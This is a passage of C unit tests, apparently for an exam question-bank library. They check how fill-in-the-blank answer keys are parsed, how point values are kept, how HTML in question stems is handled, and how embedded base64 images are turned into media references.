    cr_expect_str_eq(c[2].answer, ans);
    cr_expect_eq(again, 0);
    cr_expect_eq(it.points_centi, 1000);
    cr_expect_eq(c[1].n_blanks, 2);

    /* a key that does not parse leaves no blanks (validation reports it) */
    bank_item f;
    memset(&f, 0, sizeof f);
    f.type = BANK_FILL;
    f.stem = "____";
    f.answer = "num:abc";
    cr_assert_eq(bank_item_prepare(&f, BANK_TEXT_AUTO, A, NULL), 0);
    cr_expect_eq(f.n_blanks, 0);
    cr_expect_null(f.blanks);
    cr_expect_str_eq(f.answer, "num:abc");

    /* points that were given are kept */
    bank_item it2 = composite();
    it2.points_centi = 1200;
    cr_assert_eq(bank_item_prepare(&it2, BANK_TEXT_HTML, A, NULL), 0);
    cr_expect_eq(it2.points_centi, 1200);
    /* as HTML, "<b 时选哪个？" is a tag, as a browser reads it */
    cr_expect_str_eq(it2.children[0].stem, "a<b></b>");
}

Test(html, prepare_practical_and_images)
{
    bank_item it;
    memset(&it, 0, sizeof it);
    it.type = BANK_PRACTICAL;
    it.stem = kc_arena_printf(A, "任务卡<img src=\"data:image/png;base64,%s\">", b64(PNG, sizeof PNG));
    it.equipment = "交换机 <2台>\n网线";
    it.answer = NULL;
    cr_assert_eq(bank_item_prepare(&it, BANK_TEXT_AUTO, A, NULL), 0);
    cr_assert_eq(it.n_media, 1);
    cr_expect_str_eq(it.stem, kc_arena_printf(A, "任务卡<img src=\"media:%s\">", it.media[0].name));
    cr_expect_str_eq(it.equipment, "交换机 <2台>\n网线", "equipment is plain text");
    cr_expect_null(it.answer);
    cr_expect_null(it.explanation);
}
